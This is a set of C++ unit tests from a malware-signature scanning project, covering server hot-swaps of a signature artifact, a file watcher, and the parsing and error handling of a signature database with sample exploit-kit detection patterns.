// The soak contract end to end through the load generator: mixed traffic,
// a hot swap fired mid-run, zero failed scans.
TEST(LoadGen, MidRunHotSwapDropsNothing) {
  const ServeFixture& fx = fixture();
  ServerConfig cfg;
  cfg.workers = 2;
  ScanServer server(fx.database, cfg);
  LoadConfig lcfg;
  lcfg.clients = 3;
  lcfg.duration = std::chrono::milliseconds(300);
  lcfg.stream_fraction = 0.4;
  lcfg.mid_run = [&] {
    std::istringstream art(fx.swap_artifact);
    ASSERT_TRUE(server.deploy_artifact(art).accepted);
  };
  const LoadReport rep = run_load(server, fx.docs, lcfg);
  EXPECT_EQ(rep.failed, 0u);
  EXPECT_GT(rep.completed, 0u);
  EXPECT_GT(rep.one_shot, 0u);
  EXPECT_GT(rep.stream, 0u);
  EXPECT_EQ(server.stats().epoch_swaps, 1u);
  EXPECT_EQ(rep.latency.count(), rep.completed);
  server.stop();
}

// ------------------------------- watcher --------------------------------

TEST(ArtifactWatcher, PicksUpReplacedArtifactThroughLintGate) {
  const ServeFixture& fx = fixture();
  const std::string path = "serve_watch_test.kpf";
  {
    std::ofstream out(path, std::ios::binary);
    out << fx.artifact;
  }
  ScanServer server(fx.database, ServerConfig{});
  const std::uint64_t epoch0 = server.epoch();
  {
    ArtifactWatcher watcher(server, path, std::chrono::milliseconds(10));
    // The initial file is the primed baseline: no deploy happens until the
    // file actually changes.
    std::this_thread::sleep_for(std::chrono::milliseconds(50));
    EXPECT_EQ(server.epoch(), epoch0);

    {
      // Atomic replace, the way a release process ships: write the full
      // artifact beside the live one, then rename into place.
      const std::string tmp = path + ".tmp";
      std::ofstream out(tmp, std::ios::binary | std::ios::trunc);
      out << fx.swap_artifact;
      out.close();
      ASSERT_EQ(std::rename(tmp.c_str(), path.c_str()), 0);
    }
    const auto deadline =
        std::chrono::steady_clock::now() + std::chrono::seconds(5);
    while (server.epoch() == epoch0 &&
           std::chrono::steady_clock::now() < deadline) {
      std::this_thread::sleep_for(std::chrono::milliseconds(10));
    }
    EXPECT_EQ(server.epoch(), epoch0 + 1);
    EXPECT_GE(watcher.stats().swaps, 1u);
    watcher.stop();
  }
  server.stop();
  std::remove(path.c_str());
}

}  // namespace
}  // namespace kizzle::serve
