#include <gtest/gtest.h>

#include "core/deploy.h"
#include "core/sigdb.h"

namespace kizzle::core {
namespace {

std::vector<DeployedSignature> sample_set() {
  DeployedSignature a;
  a.name = "KZ.RIG.1";
  a.family = "RIG";
  a.issued_day = 64;
  a.token_length = 120;
  a.pattern = "var(?<var0>[0-9a-zA-Z]{3,7})=;function";
  DeployedSignature b;
  b.name = "KZ.Nuclear.2";
  b.family = "Nuclear";
  b.issued_day = 77;
  b.token_length = 88;
  b.pattern = "\\(ev3fwrwg4al\\)";
  return {a, b};
}

TEST(SigDb, RoundTrip) {
  const auto original = sample_set();
  const std::string text = save_signatures(original);
  const auto loaded = load_signatures(text);
  ASSERT_EQ(loaded.size(), original.size());
  for (std::size_t i = 0; i < original.size(); ++i) {
    EXPECT_EQ(loaded[i].name, original[i].name);
    EXPECT_EQ(loaded[i].family, original[i].family);
    EXPECT_EQ(loaded[i].issued_day, original[i].issued_day);
    EXPECT_EQ(loaded[i].token_length, original[i].token_length);
    EXPECT_EQ(loaded[i].pattern, original[i].pattern);
  }
}

TEST(SigDb, LoadedSetDrivesABundle) {
  const auto loaded = load_signatures(save_signatures(sample_set()));
  SignatureBundle bundle(loaded);
  EXPECT_TRUE(bundle.match("xxx(ev3fwrwg4al)yyy").has_value());
  EXPECT_FALSE(bundle.match("clean content").has_value());
}

TEST(SigDb, DeterministicOutput) {
  EXPECT_EQ(save_signatures(sample_set()), save_signatures(sample_set()));
}

TEST(SigDb, EmptySetHasHeaderOnly) {
  const std::string text = save_signatures({});
  EXPECT_EQ(text, "# kizzle-signatures v1\n");
  EXPECT_TRUE(load_signatures(text).empty());
}

TEST(SigDb, CommentsAndBlankLinesSkipped) {
  const std::string text =
      "# kizzle-signatures v1\n\n# a comment\n"
      "S\tF\t1\t2\tabc\n";
  const auto loaded = load_signatures(text);
  ASSERT_EQ(loaded.size(), 1u);
  EXPECT_EQ(loaded[0].name, "S");
}

TEST(SigDb, RejectsMissingHeader) {
  EXPECT_THROW(load_signatures(std::string("S\tF\t1\t2\tabc\n")),
               std::runtime_error);
}

TEST(SigDb, RejectsWrongFieldCount) {
  EXPECT_THROW(
      load_signatures(std::string("# kizzle-signatures v1\nS\tF\t1\n")),
      std::runtime_error);
}

TEST(SigDb, RejectsBadNumbers) {
  EXPECT_THROW(load_signatures(std::string(
                   "# kizzle-signatures v1\nS\tF\tx\t2\tabc\n")),
               std::runtime_error);
}

TEST(SigDb, RejectsNonCompilingPattern) {
  EXPECT_THROW(load_signatures(std::string(
                   "# kizzle-signatures v1\nS\tF\t1\t2\t(unclosed\n")),
               std::runtime_error);
}

TEST(SigDb, RejectsTabInPattern) {
  DeployedSignature s;
  s.name = "S";
  s.family = "F";
  s.pattern = "a\tb";
  EXPECT_THROW(save_signatures({s}), std::invalid_argument);
}

}  // namespace
}  // namespace kizzle::core
