#include <gtest/gtest.h>

#include <sstream>
#include <string>

#include "core/deploy.h"
#include "core/sigdb.h"
#include "support/errors.h"

namespace kizzle::core {
namespace {

std::vector<DeployedSignature> sample_set() {
  DeployedSignature a;
  a.name = "KZ.RIG.1";
  a.family = "RIG";
  a.issued_day = 64;
  a.token_length = 120;
  a.pattern = "var(?<var0>[0-9a-zA-Z]{3,7})=;function";
  DeployedSignature b;
  b.name = "KZ.Nuclear.2";
  b.family = "Nuclear";
  b.issued_day = 77;
  b.token_length = 88;
  b.pattern = "\\(ev3fwrwg4al\\)";
  return {a, b};
}

TEST(SigDb, RoundTrip) {
  const auto original = sample_set();
  const std::string text = save_signatures(original);
  const auto loaded = load_signatures(text);
  ASSERT_EQ(loaded.size(), original.size());
  for (std::size_t i = 0; i < original.size(); ++i) {
    EXPECT_EQ(loaded[i].name, original[i].name);
    EXPECT_EQ(loaded[i].family, original[i].family);
    EXPECT_EQ(loaded[i].issued_day, original[i].issued_day);
    EXPECT_EQ(loaded[i].token_length, original[i].token_length);
    EXPECT_EQ(loaded[i].pattern, original[i].pattern);
  }
}

TEST(SigDb, LoadedSetDrivesABundle) {
  const auto loaded = load_signatures(save_signatures(sample_set()));
  SignatureBundle bundle(loaded);
  EXPECT_TRUE(bundle.match("xxx(ev3fwrwg4al)yyy").has_value());
  EXPECT_FALSE(bundle.match("clean content").has_value());
}

TEST(SigDb, DeterministicOutput) {
  EXPECT_EQ(save_signatures(sample_set()), save_signatures(sample_set()));
}

TEST(SigDb, EmptySetHasHeaderOnly) {
  const std::string text = save_signatures({});
  EXPECT_EQ(text, "# kizzle-signatures v1\n");
  EXPECT_TRUE(load_signatures(text).empty());
}

TEST(SigDb, CommentsAndBlankLinesSkipped) {
  const std::string text =
      "# kizzle-signatures v1\n\n# a comment\n"
      "S\tF\t1\t2\tabc\n";
  const auto loaded = load_signatures(text);
  ASSERT_EQ(loaded.size(), 1u);
  EXPECT_EQ(loaded[0].name, "S");
}

TEST(SigDb, RejectsMissingHeader) {
  EXPECT_THROW(load_signatures(std::string("S\tF\t1\t2\tabc\n")),
               std::runtime_error);
}

TEST(SigDb, RejectsWrongFieldCount) {
  EXPECT_THROW(
      load_signatures(std::string("# kizzle-signatures v1\nS\tF\t1\n")),
      std::runtime_error);
}

TEST(SigDb, RejectsBadNumbers) {
  EXPECT_THROW(load_signatures(std::string(
                   "# kizzle-signatures v1\nS\tF\tx\t2\tabc\n")),
               std::runtime_error);
}

TEST(SigDb, RejectsNonCompilingPattern) {
  EXPECT_THROW(load_signatures(std::string(
                   "# kizzle-signatures v1\nS\tF\t1\t2\t(unclosed\n")),
               std::runtime_error);
}

TEST(SigDb, RejectsTabInPattern) {
  DeployedSignature s;
  s.name = "S";
  s.family = "F";
  s.pattern = "a\tb";
  EXPECT_THROW(save_signatures({s}), std::invalid_argument);
}

// ------------------------ typed-error taxonomy ------------------------

TEST(SigDb, ParseFailuresAreTypedInputErrors) {
  EXPECT_THROW(load_signatures(std::string("bogus header\n")), InputError);
  EXPECT_THROW(
      load_signatures(std::string("# kizzle-signatures v1\nS\tF\t1\n")),
      InputError);
  EXPECT_THROW(load_signatures(std::string(
                   "# kizzle-signatures v1\nS\tF\tx\t2\tabc\n")),
               InputError);
  EXPECT_THROW(load_signatures(std::string(
                   "# kizzle-signatures v1\nS\tF\t1\t2\t(unclosed\n")),
               InputError);
}

TEST(SigDb, RejectsNumberWithTrailingGarbage) {
  // std::stoi-era prefix parsing accepted "12junk"; from_chars must not.
  EXPECT_THROW(load_signatures(std::string(
                   "# kizzle-signatures v1\nS\tF\t12junk\t2\tabc\n")),
               InputError);
}

TEST(SigDb, ErrorsCarryLineAndByteOffset) {
  // Header (22+1 bytes), one good line, then the bad one: the message
  // must pin both the line number and the byte offset of its first byte.
  const std::string good_line = "S\tF\t1\t2\tabc\n";
  const std::string text =
      "# kizzle-signatures v1\n" + good_line + "BAD LINE\n";
  const std::size_t expect_offset = 23 + good_line.size();
  try {
    load_signatures(text);
    FAIL() << "expected InputError";
  } catch (const InputError& e) {
    const std::string what = e.what();
    EXPECT_NE(what.find("line 3"), std::string::npos) << what;
    EXPECT_NE(what.find("byte " + std::to_string(expect_offset)),
              std::string::npos)
        << what;
  }
}

TEST(SigDb, OverlongLineIsResourceError) {
  const std::string text = "# kizzle-signatures v1\n# " +
                           std::string(kMaxSignatureLineBytes, 'x') + "\n";
  EXPECT_THROW(load_signatures(text), ResourceError);
}

TEST(SigDb, SignatureCountCapIsResourceError) {
  // validate_patterns = false: the cap must trip on parsing alone,
  // without paying a million trial compilations first.
  std::string text = "# kizzle-signatures v1\n";
  const std::string line = "S\tF\t1\t2\tabc\n";
  text.reserve(text.size() + line.size() * (kMaxSignatureCount + 1));
  for (std::size_t i = 0; i <= kMaxSignatureCount; ++i) text += line;
  std::istringstream is(text);
  EXPECT_THROW(load_signatures(is, /*validate_patterns=*/false),
               ResourceError);
}

TEST(SigDb, ArtifactFailuresAreTypedArtifactErrors) {
  std::istringstream bad_magic("NOTMAGIC and then some");
  EXPECT_THROW(load_artifact(bad_magic), ArtifactError);
  // Typed errors remain catchable as std::runtime_error: pre-taxonomy
  // call sites keep working.
  std::istringstream bad_magic2("NOTMAGIC and then some");
  EXPECT_THROW(load_artifact(bad_magic2), std::runtime_error);
}

}  // namespace
}  // namespace kizzle::core
